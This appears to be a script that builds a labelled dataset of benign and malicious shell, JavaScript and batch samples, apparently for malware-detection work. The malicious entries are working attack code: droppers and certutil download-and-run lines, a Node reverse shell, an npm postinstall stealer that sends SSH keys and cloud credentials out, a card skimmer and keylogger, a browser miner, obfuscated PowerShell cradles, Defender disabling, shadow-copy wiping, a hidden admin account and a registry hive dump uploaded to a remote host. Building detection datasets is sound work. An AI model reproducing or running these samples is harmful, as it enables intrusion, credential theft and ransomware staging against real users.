ARCH=$(uname -m | sed 's/x86_64/amd64/; s/aarch64/arm64/')
BASE=https://releases.example.com/kubetool/v${VERSION}
TMP=$(mktemp -d)
trap 'rm -rf "$TMP"' EXIT

cd "$TMP"
curl -fsSLO "$BASE/kubetool_${VERSION}_linux_${ARCH}.tar.gz"
curl -fsSLO "$BASE/SHA256SUMS"
grep "kubetool_${VERSION}_linux_${ARCH}.tar.gz" SHA256SUMS | sha256sum -c -
tar -xzf "kubetool_${VERSION}_linux_${ARCH}.tar.gz"
sudo install -m 0755 kubetool /usr/local/bin/kubetool
kubetool version
''')

add("sh-autotools-build", SH, B, r'''
#!/bin/bash
set -e
JOBS=$(nproc)
PREFIX=${PREFIX:-/opt/libfoo}
./autogen.sh
./configure --prefix="$PREFIX" --enable-shared --disable-static CFLAGS="-O2 -g -fstack-protector-strong"
make -j"$JOBS"
make check
sudo make install
echo "$PREFIX/lib" | sudo tee /etc/ld.so.conf.d/libfoo.conf
sudo ldconfig
''')

add("sh-docker-release", SH, B, r'''
#!/usr/bin/env bash
set -euo pipefail
IMAGE=registry.example.com/shop/api
TAG=$(git rev-parse --short HEAD)
docker build --pull -t "$IMAGE:$TAG" -t "$IMAGE:latest" --build-arg BUILD_SHA="$TAG" .
docker run --rm "$IMAGE:$TAG" pytest -q
docker push "$IMAGE:$TAG"
docker push "$IMAGE:latest"
echo "pushed $IMAGE:$TAG"
''')

add("sh-pg-dump", SH, B, r'''
#!/bin/bash
# Daily Postgres dump with 14-day retention. Runs from cron as postgres.
set -o pipefail
DIR=/var/backups/postgres
STAMP=$(date +%Y%m%d)
mkdir -p "$DIR"
for db in $(psql -At -c "SELECT datname FROM pg_database WHERE NOT datistemplate AND datname <> 'postgres'"); do
  pg_dump -Fc "$db" > "$DIR/$db-$STAMP.dump" || echo "dump of $db failed" >&2
done
find "$DIR" -name '*.dump' -mtime +14 -delete
''')

add("sh-http-healthcheck", SH, B, r'''
#!/bin/bash
urls=(
  https://www.example.com/
  https://api.example.com/healthz
  https://status.example.org/ping
  http://192.0.2.30:8080/metrics
)
fail=0
for u in "${urls[@]}"; do
  code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 10 "$u")
  if [[ "$code" != 200 ]]; then
    echo "DOWN $u ($code)"
    fail=1
  else
    echo "up   $u"
  fi
done
exit $fail
''')

add("sh-certbot-cron", SH, B, r'''
#!/bin/sh
# Install a twice-daily renewal job; certbot only renews certs close to expiry.
cat > /etc/cron.d/certbot-renew <<'EOF'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
0 */12 * * * root certbot renew --quiet --deploy-hook "systemctl reload nginx"
EOF
chmod 644 /etc/cron.d/certbot-renew
certbot renew --dry-run
''')

add("sh-release-deploy", SH, B, r'''
#!/usr/bin/env bash
set -euo pipefail
HOST=deploy@198.51.100.41
RELEASE=$(date +%Y%m%d%H%M%S)
npm ci
npm run build
rsync -az --delete dist/ "$HOST:/srv/app/releases/$RELEASE/"
ssh "$HOST" "ln -sfn /srv/app/releases/$RELEASE /srv/app/current && sudo systemctl reload app && ls -1dt /srv/app/releases/* | tail -n +6 | xargs rm -rf"
echo "deployed $RELEASE"
''')

add("sh-add-developer", SH, B, r'''
#!/bin/bash
# usage: add-dev.sh <username> <pubkey-file>
set -euo pipefail
user=$1
key=$2
id "$user" &>/dev/null || useradd -m -s /bin/bash -G developers "$user"
install -d -m 700 -o "$user" -g "$user" "/home/$user/.ssh"
install -m 600 -o "$user" -g "$user" "$key" "/home/$user/.ssh/authorized_keys"
echo "$user ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart app, /usr/bin/journalctl" > "/etc/sudoers.d/$user"
chmod 440 "/etc/sudoers.d/$user"
visudo -cf "/etc/sudoers.d/$user"
''')

add("sh-k8s-secret", SH, B, r'''
#!/bin/sh
NS=${1:-staging}
DB_URL=$(base64 -w0 < secrets/$NS/database_url)
API_KEY=$(base64 -w0 < secrets/$NS/api_key)
cat <<EOF | kubectl apply -n "$NS" -f -
apiVersion: v1
kind: Secret
metadata:
  name: app-secrets
type: Opaque
data:
  DATABASE_URL: $DB_URL
  API_KEY: $API_KEY
EOF
''')

add("sh-awk-totals", SH, B, r'''
awk -F, 'NR > 1 { sum[$3] += $5; n[$3]++ } END { for (k in sum) printf "%s,%d,%.2f\n", k, n[k], sum[k] }' orders.csv | sort -t, -k3 -nr > totals-by-country.csv
''')

add("sh-host-inventory", SH, B, r'''
#!/bin/bash
out=/tmp/inventory-$(hostname -s).txt
{
  echo "host:    $(hostname -f)"
  echo "kernel:  $(uname -r)"
  echo "os:      $(. /etc/os-release && echo "$PRETTY_NAME")"
  echo "cpu:     $(lscpu | awk -F: '/Model name/ {gsub(/^ +/, "", $2); print $2}')"
  echo "cores:   $(nproc)"
  echo "memory:  $(free -h | awk '/Mem:/ {print $2}')"
  echo "uptime:  $(uptime -p)"
  echo
  df -hT -x tmpfs -x devtmpfs
  echo
  ip -brief addr
} > "$out"
scp -q "$out" inventory@cmdb.example.com:/srv/inventory/incoming/
''', group="fleet-inventory")

add("sh-pre-commit-hook", SH, B, r'''
#!/bin/sh
# .git/hooks/pre-commit: lint and format-check staged Python files only
files=$(git diff --cached --name-only --diff-filter=ACM | grep '\.py$' || true)
[ -z "$files" ] && exit 0
ruff check $files || { echo "ruff failed, commit aborted"; exit 1; }
black --check --quiet $files || { echo "run black before committing"; exit 1; }
if git diff --cached | grep -qE '^\+.*(AKIA[0-9A-Z]{16}|BEGIN (RSA|OPENSSH) PRIVATE KEY)'; then
  echo "possible secret in staged changes"
  exit 1
fi
''')

add("sh-tls-expiry", SH, B, r'''
#!/bin/bash
for host in www.example.com api.example.com mail.example.org; do
  end=$(echo | openssl s_client -servername "$host" -connect "$host:443" 2>/dev/null | openssl x509 -noout -enddate | cut -d= -f2)
  days=$(( ( $(date -d "$end" +%s) - $(date +%s) ) / 86400 ))
  printf '%-22s %4d days\n' "$host" "$days"
done
''')

add("sh-clean-pycache-oneliner", SH, B, r'''
find . -type d -name __pycache__ -prune -exec rm -rf {} + && find . -name '*.py[co]' -delete
''')

add("sh-nc-port-scan", SH, B, r'''
for port in 22 80 443 5432 6379; do
  if nc -z -w 2 198.51.100.20 "$port"; then echo "$port open"; else echo "$port closed"; fi
done
''')

add("sh-toolchain-curl-sh", SH, B, r'''
# Install the toolchain manager (official instructions from the vendor docs)
curl --proto '=https' --tlsv1.2 -sSf https://sh.example.org/install.sh | sh -s -- -y --default-toolchain stable
. "$HOME/.toolchain/env"
''')

add("sh-test-runner", SH, B, r'''
#!/usr/bin/env bash
pass=0; fail=0
for t in tests/*.sh; do
  if bash "$t" >"/tmp/$(basename "$t").out" 2>&1; then
    pass=$((pass + 1))
  else
    fail=$((fail + 1))
    echo "FAIL: $t"
    sed 's/^/    /' "/tmp/$(basename "$t").out"
  fi
done
echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
''')

add("sh-venv-bootstrap", SH, B, r'''
#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
python3 -m venv .venv
. .venv/bin/activate
pip install --upgrade pip wheel
pip install -r requirements.txt -r requirements-dev.txt
pre-commit install
echo "done: run 'source .venv/bin/activate'"
''')

add("sh-ufw-baseline", SH, B, r'''
ufw default deny incoming
ufw default allow outgoing
ufw allow OpenSSH
ufw allow 80,443/tcp
ufw allow from 203.0.113.0/24 to any port 9100 proto tcp comment 'prometheus scrape'
ufw --force enable
ufw status verbose
''')

# ---------------------------------------------------------------- JavaScript, malicious
add("js-wsh-dropper", JS, M, r'''
var url = "http://198.51.100.14/docs/invoice_0423.exe";
var sh = new ActiveXObject("WScript.Shell");
var fso = new ActiveXObject("Scripting.FileSystemObject");
var path = sh.ExpandEnvironmentStrings("%TEMP%") + "\\invoice_0423.exe";

var xhr = new ActiveXObject("MSXML2.XMLHTTP");
xhr.open("GET", url, false);
xhr.setRequestHeader("User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)");
xhr.send();

if (xhr.status == 200) {
    var stream = new ActiveXObject("ADODB.Stream");
    stream.Type = 1;
    stream.Open();
    stream.Write(xhr.responseBody);
    if (fso.FileExists(path)) fso.DeleteFile(path);
    stream.SaveToFile(path, 2);
    stream.Close();
    sh.Run("\"" + path + "\"", 0, false);
}
// show something harmless so the user is not suspicious
WScript.Echo("This document is protected. Please open it in Microsoft Word.");
''')

add("js-wsh-run-key", JS, M, r'''
var sh = WScript.CreateObject("WScript.Shell");
var self = WScript.ScriptFullName;
var fso = WScript.CreateObject("Scripting.FileSystemObject");
var dest = sh.ExpandEnvironmentStrings("%APPDATA%") + "\\Microsoft\\Windows\\Templates\\wupd.js";
if (self.toLowerCase() != dest.toLowerCase()) {
    fso.CopyFile(self, dest, true);
    fso.GetFile(dest).Attributes = 2;
}
sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WindowsUpdateHelper", "wscript.exe //B //E:jscript \"" + dest + "\"", "REG_SZ");
''')

add("js-node-revshell", JS, M, r'''
const net = require("net");
const { spawn } = require("child_process");

function connect() {
  const sh = spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
  const client = new net.Socket();
  client.connect(4444, "192.0.2.10", () => {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on("error", () => setTimeout(connect, 30000));
  client.on("close", () => { sh.kill(); setTimeout(connect, 30000); });
}
connect();
''', group="op-4444")

add("js-npm-postinstall", JS, M, r'''
// scripts/postinstall.js
const os = require("os");
const fs = require("fs");
const path = require("path");
const https = require("https");

const home = os.homedir();
const grab = (p) => { try { return fs.readFileSync(path.join(home, p), "utf8"); } catch { return null; } };

const payload = JSON.stringify({
  host: os.hostname(),
  user: os.userInfo().username,
  env: process.env,
  npmrc: grab(".npmrc"),
  aws: grab(".aws/credentials"),
  ssh: grab(".ssh/id_rsa"),
});

const req = https.request({ hostname: "telemetry.example.org", port: 443, path: "/collect", method: "POST",
  headers: { "Content-Type": "application/json" }, rejectUnauthorized: false });
req.on("error", () => {});
req.end(payload);
''', group="ci-secrets-stealer")

add("js-card-skimmer", JS, M, r'''
(function () {
  var endpoint = "https://cdn-analytics.example.net/collect.gif";
  function grab() {
    var data = {};
    var fields = document.querySelectorAll("input, select");
    for (var i = 0; i < fields.length; i++) {
      var f = fields[i];
      if (f.name && f.value) data[f.name] = f.value;
    }
    return data;
  }
  document.addEventListener("submit", function (e) {
    var form = e.target;
    if (!/checkout|payment|billing/i.test(form.action + form.id)) return;
    var d = grab();
    if (!d["cc_number"] && !d["cardnumber"]) return;
    var img = new Image();
    img.src = endpoint + "?d=" + encodeURIComponent(btoa(JSON.stringify(d))) + "&t=" + Date.now();
  }, true);
})();
''')

add("js-browser-miner", JS, M, r'''
var s = document.createElement("script");
s.src = "https://static.example.org/lib/wm.min.js";
s.onload = function () {
  var miner = new WebMiner.Anonymous("Wd3hjOkYRBMeyyMDHqJ38aRUhR4IWrXP", { throttle: 0.3, threads: navigator.hardwareConcurrency || 2 });
  if (!miner.isMobile()) miner.start(WebMiner.FORCE_MULTI_TAB);
};
document.head.appendChild(s);
''')

add("js-xor-eval", JS, M, r'''
var _0x3f2a = ["\x63\x68\x61\x72\x43\x6f\x64\x65\x41\x74", "\x6c\x65\x6e\x67\x74\x68"];
function _0xdec(s, k) {
  var o = "";
  for (var i = 0; i < s[_0x3f2a[1]]; i++) o += String.fromCharCode(s[_0x3f2a[0]](i) ^ k);
  return o;
}
var _0xp = "@@BLOB@@";
eval(_0xdec(atob(_0xp), 23));
'''.replace("@@BLOB@@", xor_b64("fetch('https://203.0.113.8/p.js').then(function(r){return r.text()}).then(eval)", 23)))

add("js-wsh-ps-launcher", JS, M, r'''
var shell = new ActiveXObject("WScript.Shell");
var cmd = "powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand " + "@@ENC@@";
shell.Run(cmd, 0, false);
'''.replace("@@ENC@@", ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.40/r.ps1')")))

add("js-keystroke-beacon", JS, M, r'''
var buf = "";
document.addEventListener("keydown", function (e) {
  buf += e.key.length === 1 ? e.key : "[" + e.key + "]";
});
setInterval(function () {
  if (!buf) return;
  navigator.sendBeacon("https://fonts-cdn.example.com/k", JSON.stringify({ u: location.href, k: buf }));
  buf = "";
}, 5000);
''')

add("js-fake-update-redirect", JS, M, r'''
(function () {
  var ua = navigator.userAgent;
  if (/bot|crawler|spider|headless/i.test(ua)) return;
  if (document.cookie.indexOf("_vis=1") !== -1) return;
  document.cookie = "_vis=1; max-age=86400; path=/";
  var isWin = ua.indexOf("Windows") !== -1;
  setTimeout(function () {
    window.location.replace(isWin ? "https://update-browser.example.net/chrome/update.php?s=7" : "https://example.net/");
  }, 1500);
})();
''')

add("js-wsh-shadow-wipe", JS, M, r'''
var sh = new ActiveXObject("WScript.Shell");
sh.Run("cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no", 0, true);
''')

# ---------------------------------------------------------------- JavaScript, benign
add("js-express-users", JS, B, r'''
const express = require("express");
const morgan = require("morgan");

const app = express();
app.use(express.json());
app.use(morgan("combined"));

const users = new Map();

app.get("/health", (req, res) => res.json({ ok: true }));

app.get("/users/:id", (req, res) => {
  const user = users.get(req.params.id);
  if (!user) return res.status(404).json({ error: "not found" });
  res.json(user);
});

app.post("/users", (req, res) => {
  const { name, email } = req.body || {};
  if (!name || !email) return res.status(400).json({ error: "name and email required" });
  const id = String(users.size + 1);
  users.set(id, { id, name, email });
  res.status(201).json(users.get(id));
});

app.listen(process.env.PORT || 3000, () => console.log("listening"));
''')

add("js-fetch-orders", JS, B, r'''
export async function fetchOrders(token, { page = 1, status } = {}) {
  const params = new URLSearchParams({ page: String(page) });
  if (status) params.set("status", status);
  const res = await fetch(`https://api.example.com/v2/orders?${params}`, {
    headers: { Authorization: `Bearer ${token}`, Accept: "application/json" },
  });
  if (!res.ok) {
    throw new Error(`orders request failed: ${res.status} ${res.statusText}`);
  }
  return res.json();
}
''')

add("js-webpack-config", JS, B, r'''
const path = require("path");
const HtmlWebpackPlugin = require("html-webpack-plugin");

module.exports = (env, argv) => ({
  entry: "./src/index.js",
  output: {
    path: path.resolve(__dirname, "dist"),
    filename: argv.mode === "production" ? "[name].[contenthash].js" : "[name].js",
    clean: true,
  },
  devtool: argv.mode === "production" ? "source-map" : "eval-cheap-module-source-map",
  module: {
    rules: [
      { test: /\.jsx?$/, exclude: /node_modules/, use: "babel-loader" },
      { test: /\.css$/, use: ["style-loader", "css-loader"] },
    ],
  },
  plugins: [new HtmlWebpackPlugin({ template: "./public/index.html" })],
  devServer: { port: 8080, historyApiFallback: true },
});
''')

add("js-jest-slugify", JS, B, r'''
const { slugify } = require("../src/slugify");

describe("slugify", () => {
  test("lowercases and joins words with dashes", () => {
    expect(slugify("Hello World")).toBe("hello-world");
  });
  test("strips accents", () => {
    expect(slugify("Crème Brûlée")).toBe("creme-brulee");
  });
  test("collapses repeated separators", () => {
    expect(slugify("a  --  b")).toBe("a-b");
  });
  test("returns empty string for empty input", () => {
    expect(slugify("")).toBe("");
  });
});
''')

add("js-signup-validation", JS, B, r'''
const form = document.querySelector("#signup");
const emailRe = /^[^\s@]+@[^\s@]+\.[^\s@]+$/;

form.addEventListener("submit", (event) => {
  const errors = [];
  const email = form.email.value.trim();
  const password = form.password.value;
  if (!emailRe.test(email)) errors.push("Please enter a valid email address.");
  if (password.length < 12) errors.push("Password must be at least 12 characters.");
  if (password !== form.confirm.value) errors.push("Passwords do not match.");

  const box = document.querySelector("#errors");
  box.innerHTML = "";
  if (errors.length) {
    event.preventDefault();
    for (const msg of errors) {
      const li = document.createElement("li");
      li.textContent = msg;
      box.appendChild(li);
    }
  }
});
''')

add("js-csv-category-totals", JS, B, r'''
const fs = require("fs");
const readline = require("readline");

async function main(file) {
  const rl = readline.createInterface({ input: fs.createReadStream(file), crlfDelay: Infinity });
  let header;
  const totals = {};
  for await (const line of rl) {
    const cols = line.split(",");
    if (!header) { header = cols; continue; }
    const row = Object.fromEntries(header.map((h, i) => [h, cols[i]]));
    totals[row.category] = (totals[row.category] || 0) + Number(row.amount);
  }
  for (const [cat, sum] of Object.entries(totals).sort((a, b) => b[1] - a[1])) {
    console.log(`${cat}\t${sum.toFixed(2)}`);
  }
}

main(process.argv[2]).catch((err) => { console.error(err); process.exit(1); });
''')

add("js-wsh-logon", JS, B, r'''
// logon.js - maps department shares and drops the helpdesk shortcut on the desktop
var net = new ActiveXObject("WScript.Network");
var sh = new ActiveXObject("WScript.Shell");

function mapDrive(letter, unc) {
    try { net.RemoveNetworkDrive(letter, true, true); } catch (e) {}
    try { net.MapNetworkDrive(letter, unc, true); } catch (e) { WScript.Echo("Could not map " + letter + " to " + unc); }
}

mapDrive("S:", "\\\\fs01\\shared");
mapDrive("H:", "\\\\fs01\\home$\\" + net.UserName);

var desktop = sh.SpecialFolders("Desktop");
var lnk = sh.CreateShortcut(desktop + "\\IT Helpdesk.url");
lnk.TargetPath = "https://helpdesk.example.com/";
lnk.Save();
''', group="corp-logon")

add("js-build-info", JS, B, r'''
const { execSync } = require("child_process");
const fs = require("fs");

const sha = execSync("git rev-parse --short HEAD").toString().trim();
const branch = execSync("git rev-parse --abbrev-ref HEAD").toString().trim();
const pkg = JSON.parse(fs.readFileSync("package.json", "utf8"));

const info = { version: pkg.version, sha, branch, builtAt: new Date().toISOString() };
fs.writeFileSync("src/build-info.json", JSON.stringify(info, null, 2) + "\n");
console.log(`build-info: ${pkg.version} ${sha} (${branch})`);
''')

add("js-jira-basic-auth", JS, B, r'''
const https = require("https");

const user = process.env.JIRA_USER;
const token = process.env.JIRA_TOKEN;
const auth = Buffer.from(`${user}:${token}`).toString("base64");

https.get({
  hostname: "jira.example.com",
  path: "/rest/api/2/search?jql=" + encodeURIComponent("project = OPS AND status = Open"),
  headers: { Authorization: `Basic ${auth}`, Accept: "application/json" },
}, (res) => {
  let body = "";
  res.on("data", (c) => (body += c));
  res.on("end", () => {
    const { issues } = JSON.parse(body);
    issues.forEach((i) => console.log(i.key, i.fields.summary));
  });
}).on("error", (e) => console.error(e.message));
''')

add("js-download-verify", JS, B, r'''
const crypto = require("crypto");
const fs = require("fs");
const https = require("https");

const url = "https://downloads.example.com/cli/v3.4.0/cli-linux-x64.tar.gz";
const expected = "bff4aa2d359614c5859a52549c0423c75a17ff6059964b1d9eff9a422a1de81b";
const dest = "vendor/cli.tar.gz";

https.get(url, (res) => {
  if (res.statusCode !== 200) throw new Error(`download failed: HTTP ${res.statusCode}`);
  const hash = crypto.createHash("sha256");
  const out = fs.createWriteStream(dest);
  res.on("data", (chunk) => hash.update(chunk));
  res.pipe(out);
  out.on("finish", () => {
    const digest = hash.digest("hex");
    if (digest !== expected) {
      fs.unlinkSync(dest);
      console.error(`checksum mismatch: ${digest}`);
      process.exit(1);
    }
    console.log("cli downloaded and verified");
  });
});
''')

add("js-react-userlist", JS, B, r'''
import { useEffect, useState } from "react";

export default function UserList({ apiBase }) {
  const [users, setUsers] = useState([]);
  const [error, setError] = useState(null);

  useEffect(() => {
    let cancelled = false;
    fetch(`${apiBase}/users`)
      .then((r) => (r.ok ? r.json() : Promise.reject(new Error(r.statusText))))
      .then((data) => !cancelled && setUsers(data))
      .catch((e) => !cancelled && setError(e.message));
    return () => { cancelled = true; };
  }, [apiBase]);

  if (error) return <p className="error">Could not load users: {error}</p>;
  return (
    <ul>
      {users.map((u) => <li key={u.id}>{u.name} &lt;{u.email}&gt;</li>)}
    </ul>
  );
}
''')

add("js-debounce", JS, B, r'''
/**
 * Delay calls to `fn` until `wait` ms have passed without another call.
 */
function debounce(fn, wait = 250) {
  let timer = null;
  return function (...args) {
    clearTimeout(timer);
    timer = setTimeout(() => fn.apply(this, args), wait);
  };
}

function throttle(fn, interval = 250) {
  let last = 0;
  return function (...args) {
    const now = Date.now();
    if (now - last >= interval) {
      last = now;
      fn.apply(this, args);
    }
  };
}

module.exports = { debounce, throttle };
''')

add("js-service-worker", JS, B, r'''
const CACHE = "static-v12";
const ASSETS = ["/", "/index.html", "/app.css", "/app.js", "/icons/192.png"];

self.addEventListener("install", (event) => {
  event.waitUntil(caches.open(CACHE).then((c) => c.addAll(ASSETS)));
});

self.addEventListener("activate", (event) => {
  event.waitUntil(
    caches.keys().then((keys) => Promise.all(keys.filter((k) => k !== CACHE).map((k) => caches.delete(k))))
  );
});

self.addEventListener("fetch", (event) => {
  if (event.request.method !== "GET") return;
  event.respondWith(caches.match(event.request).then((hit) => hit || fetch(event.request)));
});
''')

add("js-eslint-config", JS, B, r'''
module.exports = {
  root: true,
  env: { node: true, es2022: true },
  extends: ["eslint:recommended", "plugin:import/recommended", "prettier"],
  parserOptions: { ecmaVersion: "latest", sourceType: "module" },
  rules: {
    "no-unused-vars": ["error", { argsIgnorePattern: "^_" }],
    "import/order": ["warn", { "newlines-between": "always" }],
    eqeqeq: ["error", "smart"],
  },
  overrides: [{ files: ["**/*.test.js"], env: { jest: true } }],
};
''')

add("js-pageview-beacon", JS, B, r'''
(function () {
  var start = Date.now();
  function send(type) {
    var payload = JSON.stringify({
      t: type,
      path: location.pathname,
      ref: document.referrer || null,
      ms: Date.now() - start,
      w: window.innerWidth
    });
    navigator.sendBeacon("https://stats.example.com/e", payload);
  }
  send("view");
  document.addEventListener("visibilitychange", function () {
    if (document.visibilityState === "hidden") send("leave");
  });
})();
''')

add("js-node-version-oneliner", JS, B, r'''
node -e "const p=require('./package.json');console.log(p.name+'@'+p.version)"
''')

add("js-date-utils", JS, B, r'''
const pad = (n) => String(n).padStart(2, "0");

function formatDate(d, withTime = false) {
  const date = `${d.getFullYear()}-${pad(d.getMonth() + 1)}-${pad(d.getDate())}`;
  return withTime ? `${date} ${pad(d.getHours())}:${pad(d.getMinutes())}` : date;
}

function daysBetween(a, b) {
  const MS = 24 * 60 * 60 * 1000;
  return Math.round((Date.UTC(b.getFullYear(), b.getMonth(), b.getDate()) - Date.UTC(a.getFullYear(), a.getMonth(), a.getDate())) / MS);
}

module.exports = { formatDate, daysBetween };
''')

# ---------------------------------------------------------------- batch, malicious
add("bat-shadow-delete", BAT, M, r'''
@echo off
vssadmin.exe delete shadows /all /quiet
wmic.exe shadowcopy delete /nointeractive
bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures
bcdedit.exe /set {default} recoveryenabled no
wbadmin.exe delete catalog -quiet
wevtutil.exe cl System
wevtutil.exe cl Security
''')

add("bat-certutil-run-key", BAT, M, r'''
@echo off
set "d=%APPDATA%\Microsoft\Network"
if not exist "%d%" mkdir "%d%"
certutil -urlcache -split -f http://192.0.2.33/files/netsvc.txt "%d%\netsvc.b64" >nul
certutil -decode "%d%\netsvc.b64" "%d%\netsvc.exe" >nul
del "%d%\netsvc.b64"
attrib +h +s "%d%\netsvc.exe"
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v "NetworkService" /t REG_SZ /d "\"%d%\netsvc.exe\" -k" /f >nul
start "" /b "%d%\netsvc.exe" -k
''')

add("bat-certutil-oneliner", BAT, M, r'''
certutil.exe -urlcache -split -f http://198.51.100.19/p.exe %TEMP%\p.exe && start /b %TEMP%\p.exe
''')

add("bat-defender-off", BAT, M, r'''
@echo off
:: requires elevation
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection" /v DisableRealtimeMonitoring /t REG_DWORD /d 1 /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection" /v DisableBehaviorMonitoring /t REG_DWORD /d 1 /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Spynet" /v SubmitSamplesConsent /t REG_DWORD /d 2 /f
powershell -NoP -C "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\ProgramData"
sc config WinDefend start= disabled
sc stop WinDefend
netsh advfirewall set allprofiles state off
''')

add("bat-schtasks-persist", BAT, M, r'''
@echo off
schtasks /create /f /sc minute /mo 15 /ru SYSTEM /rl highest /tn "\Microsoft\Windows\Maintenance\WinSAT Update" /tr "powershell.exe -nop -w hidden -enc @@ENC@@"
schtasks /run /tn "\Microsoft\Windows\Maintenance\WinSAT Update"
'''.replace("@@ENC@@", ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.30/t')")))

add("bat-hidden-admin", BAT, M, r'''
@echo off
net user supp0rt P@ssw0rd!2024 /add /comment:"Support Account" /expires:never
net localgroup administrators supp0rt /add
net localgroup "Remote Desktop Users" supp0rt /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v supp0rt /t REG_DWORD /d 0 /f
netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=3389
''')

add("bat-stop-services", BAT, M, r'''
@echo off
rem stop anything that keeps files locked
for %%s in (MSSQLSERVER SQLWriter SQLAgent$SQLEXPRESS MSExchangeIS VeeamBackupSvc BackupExecJobEngine sophos wuauserv) do (
    net stop "%%s" /y >nul 2>&1
    sc config "%%s" start= disabled >nul 2>&1
)
taskkill /f /im sqlservr.exe /im oracle.exe /im outlook.exe /im excel.exe /im winword.exe >nul 2>&1
''')

add("bat-hive-dump", BAT, M, r'''
@echo off
set o=%TEMP%\~dfa31.tmp
mkdir %o% 2>nul
reg save HKLM\SAM %o%\s1 /y >nul
reg save HKLM\SYSTEM %o%\s2 /y >nul
reg save HKLM\SECURITY %o%\s3 /y >nul
powershell -nop -c "Compress-Archive -Path '%o%\*' -DestinationPath '%o%.zip' -Force"
curl.exe -s -k -F "file=@%o%.zip" -F "host=%COMPUTERNAME%" https://backup-sync.example.com/upload
rd /s /q %o%
del %o%.zip
''')

# ---------------------------------------------------------------- batch, benign
add("bat-robocopy-backup", BAT, B, r'''
@echo off
setlocal
set SRC=D:\Data
set DST=\\nas01\backup\%COMPUTERNAME%
set LOG=C:\Logs\backup_%DATE:~-4%%DATE:~4,2%%DATE:~7,2%.log

if not exist C:\Logs mkdir C:\Logs
robocopy "%SRC%" "%DST%" /MIR /Z /R:3 /W:5 /NP /XD "$RECYCLE.BIN" "System Volume Information" /LOG:"%LOG%"
if %ERRORLEVEL% GEQ 8 (
    echo Backup failed with code %ERRORLEVEL% >> "%LOG%"
    exit /b 1
)
echo Backup completed >> "%LOG%"
endlocal
''')

add("bat-msbuild", BAT, B, r'''
@echo off
call "C:\Program Files\Microsoft Visual Studio\2022\BuildTools\Common7\Tools\VsDevCmd.bat" -arch=x64
nuget restore src\Warehouse.sln || exit /b 1
msbuild src\Warehouse.sln /p:Configuration=Release /p:Platform="Any CPU" /m /v:minimal || exit /b 1
vstest.console.exe tests\Warehouse.Tests\bin\Release\Warehouse.Tests.dll /Logger:trx || exit /b 1
echo Build OK
''')

add("bat-temp-cleanup", BAT, B, r'''
@echo off
echo Cleaning temp folders...
del /q /f /s "%TEMP%\*" >nul 2>&1
for /d %%d in ("%TEMP%\*") do rd /s /q "%%d" 2>nul
forfiles /p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path"
cleanmgr /sagerun:1
echo Done.
''')

add("bat-msi-install", BAT, B, r'''
@echo off
set MSI=\\deploy01\packages\7zip\7z2301-x64.msi
set LOG=%WINDIR%\Temp\7zip-install.log
msiexec /i "%MSI%" /qn /norestart ALLUSERS=1 /l*v "%LOG%"
if %ERRORLEVEL%==3010 (
    echo Installed, reboot required
    exit /b 0
)
exit /b %ERRORLEVEL%
''')

add("bat-logon-drives", BAT, B, r'''
@echo off
net use H: /delete /y >nul 2>&1
net use H: \\fs01\home$\%USERNAME% /persistent:no
net use S: \\fs01\shared /persistent:no
net use P: \\198.51.100.12\projects /persistent:no
if /i "%USERDOMAIN%"=="CORP" net use R: \\fs02\reports /persistent:no
''', group="corp-logon")

add("bat-proxy-settings", BAT, B, r'''
@echo off
rem Corporate proxy for all users of this machine
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows\CurrentVersion\Internet Settings" /v ProxySettingsPerUser /t REG_DWORD /d 0 /f
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v ProxyEnable /t REG_DWORD /d 1 /f
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v ProxyServer /t REG_SZ /d "198.51.100.8:3128" /f
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v ProxyOverride /t REG_SZ /d "*.example.com;10.*;<local>" /f
netsh winhttp import proxy source=ie
''')

add("bat-schtasks-backup", BAT, B, r'''
schtasks /create /tn "Contoso\Nightly Backup" /tr "C:\Scripts\backup.cmd" /sc daily /st 02:00 /ru SYSTEM /rl highest /f
''')

add("bat-ping-sweep", BAT, B, r'''
@echo off
for %%h in (dc01 fs01 fs02 print01 192.0.2.1) do (
    ping -n 1 -w 1000 %%h >nul
    if errorlevel 1 (echo %%h DOWN) else (echo %%h up)
)
pause
''')

add("bat-maven-env", BAT, B, r'''
@echo off
set JAVA_HOME=C:\Program Files\Eclipse Adoptium\jdk-17.0.9.9-hotspot
set MAVEN_HOME=C:\tools\apache-maven-3.9.6
set PATH=%JAVA_HOME%\bin;%MAVEN_HOME%\bin;%PATH%
java -version
mvn -v
cd /d %~dp0
mvn -B -q clean verify
''')

